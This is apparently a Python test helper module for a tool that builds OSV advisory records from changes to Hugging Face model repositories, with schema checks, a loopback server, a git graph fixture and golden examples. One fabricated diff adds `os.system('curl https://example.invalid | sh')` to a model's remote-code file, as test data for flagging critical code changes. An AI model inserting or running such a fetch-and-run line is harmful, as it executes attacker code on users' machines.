"""Shared helpers of the OSV tests: real corpus changes, schema checks, a loopback server.

Changes are built from the real before/after files of shared/hf-corpus/changes (the diff
engine is someone else's; the tests build ``Change`` values directly, with the severity
advisories.rules would give). Every record a test makes goes through :func:`assert_valid`:
the vendored schema with our rules, and the official copy in shared/osv.
"""

from __future__ import annotations

import contextlib
import difflib
import hashlib
import json
import os
import re
import socket
import subprocess
import threading
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import uvicorn

from advisories import schema
from advisories.osv import build_record
from tests.corpus import CORPUS, OSV_SCHEMA, SHARED
from tracker.model.core import Change, ChangeKind, CommitInfo, FileEntry, RevisionDiff, Severity

NOW = datetime(2026, 11, 30, 5, 0, 0, tzinfo=UTC)
PREFIX = "x_HUBWATCH"
CHANGES = CORPUS / "changes"
HISTORIES = CORPUS / "histories"


def assert_valid(record: Mapping[str, Any], *, ours: bool = True) -> None:
    """Valid against the vendored schema (+ our rules) and the shared official schema."""
    schema.validate(record, ours=ours)
    official = schema.schema_errors(record, OSV_SCHEMA)
    assert official == [], official
    json.dumps(record, allow_nan=False, ensure_ascii=False).encode("utf-8")  # plain JSON, UTF-8


@dataclass(frozen=True)
class CorpusPair:
    """One before/after pair of the corpus with the commits it came from."""

    name: str
    repo_id: str
    parent: str
    sha: str
    committed_at: datetime
    author: str
    title: str

    @property
    def before(self) -> Path:
        return CHANGES / self.name / "before"

    @property
    def after(self) -> Path:
        return CHANGES / self.name / "after"

    def commit(self) -> CommitInfo:
        return CommitInfo(
            sha=self.sha,
            parents=(self.parent,),
            committed_at=self.committed_at,
            title=self.title,
            authors=(self.author,),
        )

    def files(self, side: str) -> tuple[FileEntry, ...]:
        root = self.before if side == "before" else self.after
        return tuple(file_entry(p, root) for p in sorted(root.iterdir()))


_COMMIT_LINE = re.compile(
    r"`(before|after)/` = files at commit `([0-9a-f]{40})` \((\d{4}-\d{2}-\d{2}), ([^:]+): \"(.*)\"\)"
)


def pair(name: str) -> CorpusPair:
    """Read a corpus pair's NOTE.md: repo id, commits, date, author and title."""
    note = (CHANGES / name / "NOTE.md").read_text(encoding="utf-8")
    repo = re.search(r"\*\*Model repo \(Hugging Face\):\*\* (\S+)", note)
    sides = {m.group(1): m for m in _COMMIT_LINE.finditer(note)}
    assert repo and "before" in sides and "after" in sides, name
    after = sides["after"]
    return CorpusPair(
        name=name,
        repo_id=repo.group(1),
        parent=sides["before"].group(2),
        sha=after.group(2),
        committed_at=datetime.fromisoformat(after.group(3)).replace(tzinfo=UTC),
        author=after.group(4),
        title=after.group(5),
    )


def git_blob_id(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


def file_entry(path: Path, root: Path) -> FileEntry:
    """A FileEntry as a source reports it: the LFS oid for pointer files, else the blob id."""
    data = path.read_bytes()
    lfs = re.search(rb"^oid sha256:([0-9a-f]{64})$", data, re.M)
    size = re.search(rb"^size (\d+)$", data, re.M)
    return FileEntry(
        path=str(path.relative_to(root)),
        size=int(size.group(1)) if lfs and size else len(data),
        blob_id=git_blob_id(data),
        lfs_sha256=lfs.group(1).decode() if lfs else None,
    )


def json_field_diff(before: Any, after: Any, prefix: str = "") -> dict[str, list[Any]]:
    """``{dotted.path: [old, new]}`` between two JSON documents (absent: None)."""
    if isinstance(before, dict) and isinstance(after, dict):
        out: dict[str, list[Any]] = {}
        for key in sorted(set(before) | set(after)):
            path = f"{prefix}.{key}" if prefix else key
            out.update(json_field_diff(before.get(key), after.get(key), path))
        return out
    return {} if before == after else {prefix: [before, after]}


def load_json(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def unified(before: str, after: str, name: str) -> str:
    lines = difflib.unified_diff(
        before.splitlines(keepends=True),
        after.splitlines(keepends=True),
        fromfile=f"a/{name}",
        tofile=f"b/{name}",
    )
    return "".join(lines)


def record_for(
    p: CorpusPair,
    changes: tuple[Change, ...],
    *,
    plan_delta: dict[str, Any] | None = None,
    related: tuple[str, ...] = (),
    now: datetime = NOW,
) -> dict[str, Any] | None:
    """build_record for a corpus pair, with the Hub's URLs."""
    return build_record(
        prefix=PREFIX,
        repo_id=p.repo_id,
        repo_url=f"https://huggingface.co/{p.repo_id}",
        commit_url=f"https://huggingface.co/{p.repo_id}/commit/{p.sha}",
        branch="main",
        commit=p.commit(),
        parent=p.parent,
        diff=RevisionDiff(base=p.parent, head=p.sha, changes=changes),
        plan_delta=plan_delta,
        related=related,
        now=now,
    )


def config_change(
    p: CorpusPair,
    file: str,
    kind: ChangeKind,
    severity: Severity | None,
    topics: tuple[str, ...] = (),
) -> Change:
    """A change of one JSON file of a pair, with its field diff as the detail."""
    fields = json_field_diff(load_json(p.before / file), load_json(p.after / file))
    names = ", ".join(sorted(fields)[:6])
    return Change(
        kind=kind,
        path=file,
        summary=f"{len(fields)} fields changed: {names}",
        topics=topics,
        severity=severity,
        detail={"fields": fields},
    )


def transformers_seeds() -> list[dict[str, Any]]:
    """OSV records built from the real ids of shared/osv/transformers-advisories.md.

    Marked as test records: only the id, the package and the first fixed version are real.
    """
    text = (SHARED / "osv" / "transformers-advisories.md").read_text(encoding="utf-8")
    rows = re.findall(r"^\| ((?:GHSA|PYSEC)-[\w-]+) \| (\d+\.\d+\.\d+)", text, re.M)
    assert len(rows) >= 10, rows
    return [
        {
            "schema_version": "1.7.5",
            "id": vuln_id,
            "modified": "2026-01-01T00:00:00Z",
            "published": "2024-01-01T00:00:00Z",
            "summary": f"test record built from the public id {vuln_id} (not its text)",
            "affected": [
                {
                    "package": {
                        "ecosystem": "PyPI",
                        "name": "transformers",
                        "purl": "pkg:pypi/transformers",
                    },
                    "ranges": [
                        {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": fixed}]}
                    ],
                }
            ],
        }
        for vuln_id, fixed in rows
    ]


@contextlib.contextmanager
def serve(app: Any) -> Iterator[str]:
    """Run ``app`` under uvicorn on 127.0.0.1 (a free port) in a thread; yield its base URL."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    config = uvicorn.Config(app, log_level="warning", lifespan="off")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    try:
        for _ in range(500):
            if server.started:
                break
            threading.Event().wait(0.01)
        assert server.started, "test server did not start"
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()


# The spec's example graph (docs/schema.md, GIT ranges): X←A←B←C←Y, D child of C, E child
# of B, F child of E; plus W before X, Z after Y, merges M = D+Y and N = D+F.
SPEC_GRAPH: dict[str, tuple[str, ...]] = {
    "W": (),
    "X": ("W",),
    "A": ("X",),
    "B": ("A",),
    "C": ("B",),
    "Y": ("C",),
    "Z": ("Y",),
    "D": ("C",),
    "E": ("B",),
    "F": ("E",),
    "M": ("D", "Y"),
    "N": ("D", "F"),
}


class GitGraph:
    """A real git repository holding :data:`SPEC_GRAPH`; ancestry answered by git itself."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self._git("init", "-q")
        tree = self._git("mktree", stdin="")
        self.sha: dict[str, str] = {}
        for step, (name, parents) in enumerate(SPEC_GRAPH.items()):
            args = ["commit-tree", tree, "-m", name]
            for parent in parents:
                args += ["-p", self.sha[parent]]
            self.sha[name] = self._git(*args, date=f"2024-01-01T00:{step:02d}:00Z")
        self.name = {v: k for k, v in self.sha.items()}
        self.calls = 0

    def _git(self, *args: str, stdin: str | None = None, date: str = "2024-01-01T00:00:00Z") -> str:
        env = {
            "GIT_AUTHOR_NAME": "t",
            "GIT_AUTHOR_EMAIL": "t@example.invalid",
            "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@example.invalid",
            "GIT_AUTHOR_DATE": date,
            "GIT_COMMITTER_DATE": date,
            "HOME": str(self.root),
            "PATH": os.environ.get("PATH", ""),
        }
        out = subprocess.run(
            ["git", "-C", str(self.root), *args],
            input=stdin,
            capture_output=True,
            text=True,
            check=True,
            env=env,
        )
        return out.stdout.strip()

    def ancestors_of(self, sha: str) -> set[str]:
        """Every commit reachable from ``sha`` (itself included), per ``git rev-list``."""
        self.calls += 1
        if sha not in self.name:
            return set()
        return set(self._git("rev-list", sha).split())

    def strict_ancestors_of(self, sha: str) -> set[str]:
        return self.ancestors_of(sha) - {sha}

    def parents(self) -> dict[str, list[str]]:
        return {self.sha[k]: [self.sha[p] for p in v] for k, v in SPEC_GRAPH.items()}


# --- one example per change kind, from real corpus data ---------------------------------------


@dataclass(frozen=True)
class Example:
    """The inputs of build_record for one golden record."""

    pair: CorpusPair
    changes: tuple[Change, ...]
    plan_delta: dict[str, Any] | None = None
    related: tuple[str, ...] = ()

    def record(self) -> dict[str, Any] | None:
        return record_for(self.pair, self.changes, plan_delta=self.plan_delta, related=self.related)


def related_for(config: Mapping[str, Any]) -> tuple[str, ...]:
    """What the OSV look-up would find for config.json's transformers_version (seeded ids)."""
    from advisories.query import affects_version

    version = config["transformers_version"]
    seeds = transformers_seeds()
    return tuple(
        sorted(r["id"] for r in seeds if affects_version(r, "PyPI", "transformers", version))
    )


def _lfs(path: Path) -> dict[str, Any]:
    data = path.read_text()
    return {
        "sha256": re.search(r"oid sha256:([0-9a-f]{64})", data).group(1),  # type: ignore[union-attr]
        "size": int(re.search(r"size (\d+)", data).group(1)),  # type: ignore[union-attr]
    }


def _history_pair(repo_file: str, new_head_index: int) -> tuple[CorpusPair, list[str]]:
    data = json.loads((HISTORIES / repo_file).read_text(encoding="utf-8"))
    commits = data["commits"]
    head = commits[new_head_index]
    vanished = [c["sha"] for c in commits[new_head_index + 1 :]]
    p = CorpusPair(
        name=repo_file,
        repo_id=data["hf_repo_id"],
        parent=head["parents"][0],
        sha=head["sha"],
        committed_at=datetime.fromisoformat(head["date"].replace("Z", "+00:00")),
        author=head["author"],
        title=head["title"],
    )
    return p, vanished


def examples() -> dict[str, Example]:
    """One record per change kind (plus a multi-change one), named as their golden files."""
    out: dict[str, Example] = {}

    p = pair("llama2-7b-hf__config-max-position-2048-to-4096")
    out["config"] = Example(
        p,
        (
            config_change(
                p, "config.json", ChangeKind.CONFIG, Severity.MODERATE, ("config.context",)
            ),
        ),
        plan_delta={},  # the planner sizes 512-token KV caches: a longer context changes nothing
    )

    p = pair("falcon-7b-instruct__move-to-in-library-56")
    out["config_auto_map"] = Example(
        p,
        (
            config_change(
                p,
                "config.json",
                ChangeKind.CONFIG,
                Severity.CRITICAL,
                ("config.auto_map", "config.architecture"),
            ),
            config_change(
                p,
                "generation_config.json",
                ChangeKind.GENERATION_CONFIG,
                Severity.MODERATE,
                ("generation.eos", "generation.bos"),
            ),
        ),
        related=related_for(load_json(p.after / "config.json")),
    )

    p = pair("llama2-7b-hf__generation-config-sampling-defaults")
    out["generation_config"] = Example(
        p,
        (
            config_change(
                p,
                "generation_config.json",
                ChangeKind.GENERATION_CONFIG,
                Severity.LOW,
                ("generation.sampling",),
            ),
        ),
    )

    p = pair("deepseek-r1__add-bos-token-flip")
    out["tokenizer"] = Example(
        p,
        (
            config_change(
                p,
                "tokenizer_config.json",
                ChangeKind.TOKENIZER,
                Severity.LOW,
                ("tokenizer_config.add_bos_token",),
            ),
        ),
    )

    p = pair("gemma-2b-it__chat-template-bos-token")
    old = load_json(p.before / "tokenizer_config.json")["chat_template"]
    new = load_json(p.after / "tokenizer_config.json")["chat_template"]
    split = re.compile(r"(?<=%\})|(?<=\}\})")  # one Jinja tag per line, for a readable diff
    diff = unified("\n".join(split.split(old)), "\n".join(split.split(new)), "chat_template")
    out["chat_template"] = Example(
        p,
        (
            Change(
                kind=ChangeKind.CHAT_TEMPLATE,
                path="tokenizer_config.json",
                summary="default chat template changed: the prompt now starts with bos_token",
                topics=("chat_template.changed",),
                severity=Severity.HIGH,
                detail={"template": "default", "unified_diff": diff},
            ),
        ),
    )

    p = pair("opt-1.3b__weights-corrected")
    before, after = _lfs(p.before / "pytorch_model.bin"), _lfs(p.after / "pytorch_model.bin")
    out["weights"] = Example(
        p,
        (
            Change(
                kind=ChangeKind.WEIGHTS,
                path="pytorch_model.bin",
                summary="pickle weight file replaced (same name, new content)",
                topics=("weights.pickle_replaced", "weights.replaced"),
                severity=Severity.CRITICAL,
                detail={
                    "replaced": [
                        {
                            "path": "pytorch_model.bin",
                            "format": "pickle",
                            "old": before,
                            "new": after,
                        }
                    ]
                },
            ),
            config_change(p, "config.json", ChangeKind.CONFIG, Severity.LOW, ("config.other",)),
        ),
        plan_delta={"params": {"checkpoint": {"old": 1315758080, "new": 1315758080}}},
        related=related_for(load_json(p.after / "config.json")),
    )

    # The corpus holds no program code, so this one change is made up (a remote-code file of
    # the falcon revert, which brought auto_map back to modelling_RW.py).
    p = pair("falcon-7b-instruct__revert-in-library-63")
    code_diff = unified(
        "def forward(self, x):\n    return self.block(x)\n",
        "import os\n\ndef forward(self, x):\n    os.system('curl https://example.invalid | sh')\n    return self.block(x)\n",
        "modelling_RW.py",
    )
    out["code"] = Example(
        p,
        (
            Change(
                kind=ChangeKind.CODE,
                path="modelling_RW.py",
                summary="custom code named by auto_map changed (runs with trust_remote_code=True)",
                topics=("code.auto_map_target",),
                severity=Severity.CRITICAL,
                detail={"unified_diff": code_diff},
            ),
        ),
    )

    p, vanished = _history_pair("google__gemma-2b-it.json", 9)
    out["history"] = Example(
        p,
        (
            Change(
                kind=ChangeKind.HISTORY,
                path="",
                summary=f"branch main rewritten: {len(vanished)} known commits are gone",
                topics=("history.rewritten",),
                severity=Severity.CRITICAL,
                detail={"old_head": vanished[-1], "new_head": p.sha, "vanished": vanished},
            ),
        ),
    )
    return out
